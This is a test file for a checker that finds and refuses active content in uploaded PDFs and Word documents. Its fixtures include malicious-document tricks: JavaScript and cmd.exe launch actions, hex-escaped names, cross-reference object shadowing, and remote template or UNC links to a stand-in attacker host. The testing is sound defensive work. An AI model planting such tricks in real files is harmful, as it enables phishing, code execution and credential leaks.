import { describe, expect, it } from 'vitest';
import { docxActiveContent, pdfActiveContent, refuseDocxActiveContent, refusePdfActiveContent } from './active-content.ts';
import { DocumentError } from './document-error.ts';
import { renderReportPdf } from './generate-pdf.ts';
import { buildDocx, buildPasswordProtectedPdf, buildPdfWithAttachment, buildPdfWithOpenActionScript, rawPdf } from './test-fixtures.ts';
import { readZip } from './zip-archive.ts';

const page = (catalogue: string) => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];

describe('active content in PDFs', () => {
  it('finds nothing in an ordinary report, or in links to web pages and within the document', async () => {
    expect(await pdfActiveContent(await renderReportPdf({ title: 'Child L (fictional)', pages: ['Text.'] }))).toEqual([]);
    const links = rawPdf([
      ...page('/OpenAction [3 0 R /Fit]'),
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    ]);
    expect(await pdfActiveContent(links)).toEqual([]);
  });

  it('finds JavaScript run on opening, packed in a compressed object stream that no byte of the file spells', async () => {
    const pdf = await buildPdfWithOpenActionScript();
    expect(pdf.includes('JavaScript')).toBe(false);
    expect(pdf.includes('OpenAction')).toBe(false);
    expect(await pdfActiveContent(pdf)).toEqual(['JavaScript']);
    await expect(refusePdfActiveContent(pdf)).rejects.toThrow(
      new DocumentError(
        'the PDF carries active content (JavaScript) that a reader could run or open by itself: print it to a new PDF (or save it again without scripts, attachments, multimedia or forms), then try again',
      ),
    );
  });

  it('finds embedded files', async () => {
    expect(await pdfActiveContent(await buildPdfWithAttachment())).toEqual(['embedded files']);
  });

  it('finds names however they are escaped (#xx in either case)', async () => {
    expect(await pdfActiveContent(rawPdf(page('/OpenAction << /S /J#61vaScript >>')))).toEqual(['JavaScript']);
    expect(await pdfActiveContent(rawPdf(page('/OpenAction << /#4a#53 (app.alert(1)) >>')))).toEqual(['JavaScript']);
    // Names are case-sensitive: this is not JavaScript to any reader.
    expect(await pdfActiveContent(rawPdf(page('/OpenAction << /S /#4aavascript >>')))).toEqual([]);
  });

  it('finds each kind: automatic actions, launching programs, going to other files, multimedia, XFA forms, file attachments', async () => {
    const kinds = async (catalogue: string) => pdfActiveContent(rawPdf(page(catalogue)));
    expect(await kinds('/AA << /WC << /S /URI /URI (https://example.org/) >> >>')).toEqual(['automatic actions']);
    expect(await kinds('/OpenAction << /S /Launch /F (cmd.exe) >>')).toEqual(['actions that open other files, programs or addresses']);
    expect(await kinds('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>')).toEqual(['actions that open other files, programs or addresses']);
    expect(await kinds('/OpenAction << /S /SubmitForm /F (https://example.org/) >>')).toEqual(['actions that open other files, programs or addresses']);
    expect(await kinds('/Extra << /Subtype /RichMedia >>')).toEqual(['multimedia']);
    expect(await kinds('/AcroForm << /Fields [] /XFA 3 0 R >>')).toEqual(['an XFA form']);
    expect(await kinds('/Extra [[<< /Type /Annot /Subtype /FileAttachment >>]]')).toEqual(['embedded files']);
  });

  it('finds an object that a reader would take from the cross-reference table but a lenient parser replaces by a later copy', async () => {
    const clean = rawPdf([...page('/OpenAction 4 0 R'), '<< /S /JavaScript /JS (app.alert(1)) >>']);
    const at = clean.indexOf('xref\n');
    const decoy = Buffer.from('4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n', 'latin1');
    const shadowed = Buffer.from(
      Buffer.concat([clean.subarray(0, at), decoy, clean.subarray(at)]).toString('latin1').replace(`startxref\n${at}\n`, `startxref\n${at + decoy.length}\n`),
      'latin1',
    );
    expect(await pdfActiveContent(shadowed)).toEqual(['JavaScript']);
  });

  it('refuses as damaged a file that only starts like a PDF, or whose page tree cannot be read', async () => {
    for (const bytes of [Buffer.from('%PDF-1.4\n<script>alert(1)</script>'), rawPdf(['<< /Type /Catalog >>'])]) {
      await expect(pdfActiveContent(bytes)).rejects.toThrow(DocumentError);
      await expect(refusePdfActiveContent(bytes)).rejects.toThrow(/damaged or not a PDF/);
    }
  });

  it('refuses an encrypted PDF: its object streams cannot be read to check them', async () => {
    await expect(pdfActiveContent(buildPasswordProtectedPdf())).rejects.toThrow(/^the PDF is password-protected: /);
  });
});

describe('active content in Word documents', () => {
  const docx = (extra: { name: string; data: string }[]) => [...readZip(buildDocx(['Text'])), ...extra.map((e) => ({ name: e.name, data: Buffer.from(e.data) }))];
  const rels = (relationship: string) => ({
    name: 'word/_rels/document.xml.rels',
    data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
  });

  it('finds nothing in an ordinary document, nor in hyperlinks to web pages', () => {
    expect(docxActiveContent(readZip(buildDocx(['Text'])))).toEqual([]);
    const link = rels('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>');
    expect(docxActiveContent(docx([link]))).toEqual([]);
  });

  it('finds macros, ActiveX controls and embedded OLE objects', () => {
    expect(docxActiveContent(docx([{ name: 'word/vbaProject.bin', data: 'x' }]))).toEqual(['macros']);
    expect(docxActiveContent(docx([{ name: 'word/embeddings/Book1.xlsm', data: 'x' }]))).toEqual(['macros']);
    expect(docxActiveContent(docx([{ name: 'word/activeX/activeX1.xml', data: '<ax/>' }]))).toEqual(['ActiveX controls']);
    expect(docxActiveContent(docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]))).toEqual(['embedded objects (OLE)']);
  });

  it('finds content Word fetches from elsewhere by itself (a remote template, a linked picture), however the attributes are written', () => {
    const template = rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`);
    const picture = rels(`<Relationship TargetMode='&#69;xternal' Target='\\\\attacker\\share\\p.png' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Id='rId2'/>`);
    for (const part of [template, picture]) expect(docxActiveContent(docx([part]))).toEqual(['links to content elsewhere that Word fetches when the file opens']);
    expect(() => refuseDocxActiveContent(docx([template, { name: 'word/vbaProject.bin', data: 'x' }]))).toThrow(
      new DocumentError(
        'the Word document carries active content (links to content elsewhere that Word fetches when the file opens and macros): open it in Word and save a copy without them as a .docx (or print it to PDF), then try again',
      ),
    );
  });
});
